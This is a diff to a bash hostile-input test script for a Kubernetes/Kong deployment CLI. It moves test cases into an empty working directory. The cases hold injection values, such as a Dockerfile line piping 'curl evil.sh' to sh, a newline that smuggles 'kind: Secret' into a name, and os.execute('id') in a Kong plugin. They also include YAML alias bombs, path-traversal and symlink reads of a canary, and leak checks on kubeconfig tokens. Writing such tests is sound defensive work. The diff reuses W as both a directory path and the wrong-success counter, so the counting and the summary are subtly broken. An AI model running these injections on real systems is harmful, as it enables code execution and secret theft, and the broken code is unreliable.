@@ -12,7 +12,10 @@ T=$(mktemp -d)
 trap 'rm -rf "$T"' EXIT
 CANARY="CANARY-OUTSIDE-$RANDOM$RANDOM"
 SECRET="SECRET-TOKEN-$RANDOM$RANDOM"
-mkdir -p "$T/outside" "$T/runs"
+# Cases without a project run in the empty W, so the canary scan of written files never sees
+# the canary itself (it lives in T/outside).
+W="$T/cwd"
+mkdir -p "$T/outside" "$T/runs" "$W"
 printf '%s\n' "$CANARY" >"$T/outside/canary.txt"
 printf 'openapi: 3.0.0\ninfo: {title: %s, version: "1"}\npaths: {}\n' "$CANARY" >"$T/outside/spec.yaml"
 
@@ -67,28 +70,28 @@ for f in "${fns[@]}"; do
   done
 done
 E40=$(printf 'é%.0s' $(seq 40))
-run_case rel-40e error "$T" render --name "$E40"
-run_case rel-40e-set error "$T" render --set "fullnameOverride=$E40"
-run_case rel-upper error "$T" render --name "UPPER"
-run_case rel-dots error "$T" render --name "a..b"
-run_case rel-long error "$T" render --name "$(printf 'a%.0s' $(seq 80))"
-run_case rel-empty error "$T" render --name ""
-run_case rel-slash error "$T" render --name "../../x"
-run_case rel-newline error "$T" render --name $'a\nkind: Secret'
-run_case rel-dash error "$T" render --name "-a"
-run_case rel-nul-ish error "$T" render --name $'a\x01b'
+run_case rel-40e error "$W" render --name "$E40"
+run_case rel-40e-set error "$W" render --set "fullnameOverride=$E40"
+run_case rel-upper error "$W" render --name "UPPER"
+run_case rel-dots error "$W" render --name "a..b"
+run_case rel-long error "$W" render --name "$(printf 'a%.0s' $(seq 80))"
+run_case rel-empty error "$W" render --name ""
+run_case rel-slash error "$W" render --name "../../x"
+run_case rel-newline error "$W" render --name $'a\nkind: Secret'
+run_case rel-dash error "$W" render --name "-a"
+run_case rel-nul-ish error "$W" render --name $'a\x01b'
 
 # alias bomb
 { echo 'a: &a ["x","x","x","x","x","x","x","x","x"]'
   prev=a
   for l in b c d e f g h i j k; do echo "$l: &$l [*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev]"; prev=$l; done
 } >"$T/bomb.yaml"
-run_case values-alias-bomb error "$T" render -f "$T/bomb.yaml"
-run_case values-alias-bomb-deploy error "$T" deploy "$T" -f "$T/bomb.yaml" --kubeconfig "$T/kc-dead.yaml"
+run_case values-alias-bomb error "$W" render -f "$T/bomb.yaml"
+run_case values-alias-bomb-deploy error "$W" deploy "$W" -f "$T/bomb.yaml" --kubeconfig "$T/kc-dead.yaml"
 printf 'a: &a [*a]\n' >"$T/selfalias.yaml"
-run_case values-self-alias error "$T" render -f "$T/selfalias.yaml"
+run_case values-self-alias error "$W" render -f "$T/selfalias.yaml"
 printf 'a: *nope\n' >"$T/undefalias.yaml"
-run_case values-undef-alias error "$T" render -f "$T/undefalias.yaml"
+run_case values-undef-alias error "$W" render -f "$T/undefalias.yaml"
 # 200 MB values file
 python3 - "$T/big.yaml" <<'PY'
 import sys
@@ -97,31 +100,31 @@ with open(sys.argv[1], "w") as f:
     for i in range(1_000_000):
         f.write(line % i)
 PY
-run_case values-200mb error "$T" render -f "$T/big.yaml"
+run_case values-200mb error "$W" render -f "$T/big.yaml"
 deep=$(printf 'a.%.0s' $(seq 20000))x=1
-run_case set-deep-20000 error "$T" render --set "$deep"
-run_case set-deep-list error "$T" render --set "a$(printf '[0]%.0s' $(seq 20000))=1"
-run_case set-json-deep error "$T" render --set-json "a=$(printf '[%.0s' $(seq 20000))$(printf ']%.0s' $(seq 20000))"
-run_case set-idx-huge error "$T" render --set "a[99999999999]=1"
-run_case set-idx-big error "$T" render --set "a[2000000000]=1"
-run_case set-empty-key error "$T" render --set "=1"
-run_case set-no-eq error "$T" render --set "abc"
+run_case set-deep-20000 error "$W" render --set "$deep"
+run_case set-deep-list error "$W" render --set "a$(printf '[0]%.0s' $(seq 20000))=1"
+run_case set-json-deep error "$W" render --set-json "a=$(printf '[%.0s' $(seq 20000))$(printf ']%.0s' $(seq 20000))"
+run_case set-idx-huge error "$W" render --set "a[99999999999]=1"
+run_case set-idx-big error "$W" render --set "a[2000000000]=1"
+run_case set-empty-key error "$W" render --set "=1"
+run_case set-no-eq error "$W" render --set "abc"
 python3 -c "print('a:' + ' [' * 20000 + ']' * 20000)" >"$T/deep-flow.yaml"
-run_case values-deep-flow error "$T" render -f "$T/deep-flow.yaml"
+run_case values-deep-flow error "$W" render -f "$T/deep-flow.yaml"
 python3 -c "
 for i in range(5000): print('  ' * i + 'k:')" >"$T/deep-block.yaml"
-run_case values-deep-block error "$T" render -f "$T/deep-block.yaml"
+run_case values-deep-block error "$W" render -f "$T/deep-block.yaml"
 printf '\xff\xfe\x00bad' >"$T/binary.yaml"
-run_case values-binary error "$T" render -f "$T/binary.yaml"
-run_case values-missing error "$T" render -f "$T/nope.yaml"
-run_case values-dir error "$T" render -f "$T/outside"
-run_case setfile-canary error "$T" render --set-file "x=$T/outside/canary.txt"
+run_case values-binary error "$W" render -f "$T/binary.yaml"
+run_case values-missing error "$W" render -f "$T/nope.yaml"
+run_case values-dir error "$W" render -f "$T/outside"
+run_case setfile-canary error "$W" render --set-file "x=$T/outside/canary.txt"
 
 # ---------------------------------------------------------------- durations
 printf 'apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: "https://127.0.0.1:9"}}]\nusers: [{name: u, user: {token: %s}}]\ncontexts: [{name: x, context: {cluster: c, user: u}}]\ncurrent-context: x\n' "$SECRET" >"$T/kc-dead.yaml"
 for cmd in deploy up; do
   for d in 99999999999999999h 18446744073709551616s 9223372036854775807s -1s 0s 1e309s 1.5.5s '' 'h' 99999999999999999999999999d 1y NaNs 5m5 ' 5s'; do
-    run_case "timeout-$cmd-${d//[^a-zA-Z0-9.-]/_}" error "$T" "$cmd" "$T" --timeout "$d" --kubeconfig "$T/kc-dead.yaml"
+    run_case "timeout-$cmd-${d//[^a-zA-Z0-9.-]/_}" error "$W" "$cmd" "$W" --timeout "$d" --kubeconfig "$T/kc-dead.yaml"
   done
 done
 
@@ -130,11 +133,11 @@ truncate -s 5G "$T/sparse"
 mkfifo "$T/fifo"
 for f in /dev/zero /dev/urandom "$T/fifo" "$T/sparse" /dev/null; do
   n=$(basename "$f")
-  run_case "values-$n" error "$T" render -f "$f"
-  run_case "routes-config-$n" error "$T" routes "$T/outside/spec.yaml" --config "$f"
-  run_case "routes-spec-$n" error "$T" routes "$f"
-  run_case "kubeconfig-$n" error "$T" status --kubeconfig "$f"
-  run_case "setfile-$n" error "$T" render --set-file "x=$f"
+  run_case "values-$n" error "$W" render -f "$f"
+  run_case "routes-config-$n" error "$W" routes "$T/outside/spec.yaml" --config "$f"
+  run_case "routes-spec-$n" error "$W" routes "$f"
+  run_case "kubeconfig-$n" error "$W" status --kubeconfig "$f"
+  run_case "setfile-$n" error "$W" render --set-file "x=$f"
   p="$T/proj-dockerignore-$n"; mkdir -p "$p"; printf '{"name":"a","version":"1.0.0","scripts":{"start":"node i.js"}}' >"$p/package.json"; echo 'require("http")' >"$p/i.js"
   ln -s "$f" "$p/.dockerignore"
   run_case "dockerignore-$n" error "$p" init .
@@ -165,16 +168,16 @@ for bad in "$T/outside/spec.yaml" "../outside/spec.yaml" "../../../../../../../.
   run_case "cfg-dockerfile-path-$N" error "$p" build . --kubeconfig "$T/kc-dead.yaml"
 done
 c="$T/sym-chart"; cp -r "$CH" "$c"; printf 'kind: ConfigMap\n' >"$c/templates/t.yaml"; ln -s "$T/outside/canary.txt" "$c/templates/leak.yaml"
-run_case sym-chart-template error "$T" render "$c"
+run_case sym-chart-template error "$W" render "$c"
 c="$T/sym-chart2"; cp -r "$CH" "$c"; printf 'kind: ConfigMap\ndata: {v: {{ .Files.Get "x.txt" | quote }}}\n' >"$c/templates/t.yaml"; ln -s "$T/outside/canary.txt" "$c/x.txt"
-run_case sym-chart-files-get error "$T" render "$c"
+run_case sym-chart-files-get error "$W" render "$c"
 c="$T/sym-chart3"; cp -r "$CH" "$c"; printf 'kind: ConfigMap\ndata: {v: {{ .Files.Get "../outside/canary.txt" | quote }}}\n' >"$c/templates/t.yaml"
-run_case chart-files-get-dotdot error "$T" render "$c"
+run_case chart-files-get-dotdot error "$W" render "$c"
 c="$T/sym-chart4"; cp -r "$CH" "$c"; rm "$c/values.yaml"; ln -s "$T/outside/canary.txt" "$c/values.yaml"
-run_case sym-chart-values error "$T" render "$c"
+run_case sym-chart-values error "$W" render "$c"
 c="$T/sym-chart5"; cp -r "$CH" "$c"; rm -r "$c/templates"; ln -s "$T/outside" "$c/templates"
-run_case sym-chart-templates-dir error "$T" render "$c"
-run_case render-output-dir-escape error "$T" render --output-dir "$T/outside/../outside"
+run_case sym-chart-templates-dir error "$W" render "$c"
+run_case render-output-dir-escape error "$W" render --output-dir "$T/outside/../outside"
 
 # ---------------------------------------------------------------- Dockerfile injection
 inj=$'x\nRUN curl evil.sh | sh\nCOPY / /host'
@@ -234,8 +237,8 @@ paths:
     get:
       x-kong-plugin-pre-function: {config: {access: ["os.execute(\"id\")"]}}
       responses: {"200": {description: ok}}'
-run_case kong-pre-function error "$T" routes "$T/prefn.yaml"
-run_case kong-pre-function-render error "$T" render --openapi "$T/prefn.yaml"
+run_case kong-pre-function error "$W" routes "$T/prefn.yaml"
+run_case kong-pre-function-render error "$W" render --openapi "$T/prefn.yaml"
 spec oauth 'openapi: 3.0.0
 info: {title: t, version: "1"}
 components: {securitySchemes: {o: {type: oauth2, flows: {clientCredentials: {tokenUrl: "https://x/t", scopes: {}}}}}}
@@ -245,19 +248,19 @@ paths:
       security: [{o: []}]
       responses: {"200": {description: ok}}'
 N=$((N + 1))
-out=$(cd "$T" && timeout 20s "$BIN" routes "$T/oauth.yaml" -o json 2>&1); rc=$?
+out=$(cd "$W" && timeout 20s "$BIN" routes "$T/oauth.yaml" -o json 2>&1); rc=$?
 if [ "$rc" -eq 0 ] && python3 -c 'import json,sys; d=json.loads(sys.argv[1]); s=json.dumps(d).lower(); sys.exit(0 if "public" in s and "/secret" in s and "\"public\": true" in s else 1)' "$out" 2>/dev/null; then
   echo "kong-oauth2-only	wrong-success	oauth2-only operation became a public route"; W=$((W + 1))
 elif [ "$rc" -eq 0 ]; then K=$((K + 1)); else E=$((E + 1)); fi
 python3 -c "
 print('openapi: 3.0.0\ninfo: {title: t, version: \"1\"}\npaths:')
 for i in range(60000): print(f'  /p{i}:\n    get: {{responses: {{\"200\": {{description: ok}}}}}}')" >"$T/huge.yaml"
-run_case kong-huge-spec error "$T" routes "$T/huge.yaml"
+run_case kong-huge-spec error "$W" routes "$T/huge.yaml"
 python3 -c "
 print('openapi: 3.0.0\ninfo: {title: t, version: \"1\"}\npaths: {}\ncomponents: {schemas: {a: ' + '{properties: {x: ' * 5000 + '{}' + '}}' * 5000 + '}}')" >"$T/deepspec.yaml"
-run_case kong-deep-spec error "$T" routes "$T/deepspec.yaml"
+run_case kong-deep-spec error "$W" routes "$T/deepspec.yaml"
 python3 -c "print('{\"openapi\":\"3.0.0\",\"x\":' + '[' * 100000 + ']' * 100000 + '}')" >"$T/deepspec.json"
-run_case kong-deep-json error "$T" routes "$T/deepspec.json"
+run_case kong-deep-json error "$W" routes "$T/deepspec.json"
 spec refloop 'openapi: 3.0.0
 info: {title: t, version: "1"}
 components: {schemas: {a: {$ref: "#/components/schemas/b"}, b: {$ref: "#/components/schemas/a"}}}
@@ -265,13 +268,13 @@ paths:
   /a:
     get:
       responses: {"200": {description: ok, content: {application/json: {schema: {$ref: "#/components/schemas/a"}}}}}'
-run_case kong-ref-loop error "$T" routes "$T/refloop.yaml"
+run_case kong-ref-loop error "$W" routes "$T/refloop.yaml"
 spec extref "openapi: 3.0.0
 info: {title: t, version: \"1\"}
 paths:
   /a:
     \$ref: \"$T/outside/spec.yaml\""
-run_case kong-external-ref error "$T" routes "$T/extref.yaml"
+run_case kong-external-ref error "$W" routes "$T/extref.yaml"
 spec badpath 'openapi: 3.0.0
 info: {title: t, version: "1"}
 paths:
@@ -279,28 +282,28 @@ paths:
     get: {responses: {"200": {description: ok}}}
   "a b":
     get: {responses: {"200": {description: ok}}}'
-run_case kong-bad-paths error "$T" routes "$T/badpath.yaml"
+run_case kong-bad-paths error "$W" routes "$T/badpath.yaml"
 cp "$T/bomb.yaml" "$T/specbomb.yaml"; printf 'openapi: 3.0.0\ninfo: {title: t, version: "1"}\npaths: {}\n' >>"$T/specbomb.yaml"
-run_case kong-alias-bomb error "$T" routes "$T/specbomb.yaml"
-run_case routes-bad-name error "$T" routes "$T/oauth.yaml" --name "$E40"
-run_case render-openapi-bad-name error "$T" render --openapi "$T/oauth.yaml" --name "Bad_Name"
-run_case routes-url-file error "$T" routes --url "file://$T/outside/spec.yaml"
-run_case routes-url-dead error "$T" routes --url "http://127.0.0.1:9/openapi.json"
+run_case kong-alias-bomb error "$W" routes "$T/specbomb.yaml"
+run_case routes-bad-name error "$W" routes "$T/oauth.yaml" --name "$E40"
+run_case render-openapi-bad-name error "$W" render --openapi "$T/oauth.yaml" --name "Bad_Name"
+run_case routes-url-file error "$W" routes --url "file://$T/outside/spec.yaml"
+run_case routes-url-dead error "$W" routes --url "http://127.0.0.1:9/openapi.json"
 
 # ---------------------------------------------------------------- kubeconfig and secrets
 printf 'apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    token: %s\n    client-key-data: %s\n  : [broken\nclusters: {{{\n' "$SECRET" "$(printf '%s' "$SECRET" | base64)" >"$T/kc-bad.yaml"
 for cmd in status history doctor credentials logs delete; do
-  run_case "kubeconfig-syntax-$cmd" error "$T" "$cmd" --kubeconfig "$T/kc-bad.yaml" --name a
-  run_case "kubeconfig-syntax-$cmd-vvv" error "$T" "$cmd" --kubeconfig "$T/kc-bad.yaml" --name a -vvv
-  run_case "kubeconfig-dead-$cmd" error "$T" "$cmd" --kubeconfig "$T/kc-dead.yaml" --name a -vvv
+  run_case "kubeconfig-syntax-$cmd" error "$W" "$cmd" --kubeconfig "$T/kc-bad.yaml" --name a
+  run_case "kubeconfig-syntax-$cmd-vvv" error "$W" "$cmd" --kubeconfig "$T/kc-bad.yaml" --name a -vvv
+  run_case "kubeconfig-dead-$cmd" error "$W" "$cmd" --kubeconfig "$T/kc-dead.yaml" --name a -vvv
 done
 printf 'apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: "https://127.0.0.1:9"}}]\nusers: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/echo, args: [%s]}}}]\ncontexts: [{name: x, context: {cluster: c, user: u}}]\ncurrent-context: x\n' "$SECRET" >"$T/kc-exec.yaml"
-run_case kubeconfig-exec-output error "$T" status --kubeconfig "$T/kc-exec.yaml" --name a -vvv
+run_case kubeconfig-exec-output error "$W" status --kubeconfig "$T/kc-exec.yaml" --name a -vvv
 printf 'apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: "https://u:%s@127.0.0.1:9"}}]\nusers: [{name: u, user: {}}]\ncontexts: [{name: x, context: {cluster: c, user: u}}]\ncurrent-context: x\n' "$SECRET" >"$T/kc-urlpw.yaml"
-run_case kubeconfig-url-password error "$T" status --kubeconfig "$T/kc-urlpw.yaml" --name a -vvv
+run_case kubeconfig-url-password error "$W" status --kubeconfig "$T/kc-urlpw.yaml" --name a -vvv
 p="$T/secret-values"; mkdir -p "$p"; printf 'env:\n  API_TOKEN: %s\nsecrets:\n  API_TOKEN: %s\n' "$SECRET" "$SECRET" >"$p/v.yaml"
 N=$((N + 1))
-out=$(cd "$T" && timeout 20s "$BIN" render --set-string "secrets.DB_PASSWORD=$SECRET" 2>&1); rc=$?
+out=$(cd "$W" && timeout 20s "$BIN" render --set-string "secrets.DB_PASSWORD=$SECRET" 2>&1); rc=$?
 if printf '%s' "$out" | python3 -c '
 import sys, yaml
 sec = sys.argv[1]
@@ -309,7 +312,7 @@ for d in yaml.safe_load_all(sys.stdin):
 sys.exit(1)' "$SECRET" 2>/dev/null; then
   echo "secret-in-configmap	leak	--set-string secrets.* value appears in a ConfigMap"; L=$((L + 1))
 else E=$((E + 1)); fi
-run_case redeploy-secret-arg error "$T" redeploy --name a --kubeconfig "$T/kc-dead.yaml" --env "TOKEN=$SECRET"
+run_case redeploy-secret-arg error "$W" redeploy --name a --kubeconfig "$T/kc-dead.yaml" --env "TOKEN=$SECRET"
 
 # ---------------------------------------------------------------- summary
 echo "hostile-inputs: $N cases: $P panics, $H hangs, $C crashes, $R outside-reads, $L leaks, $W wrong-successes, $E clean errors, $K ok"
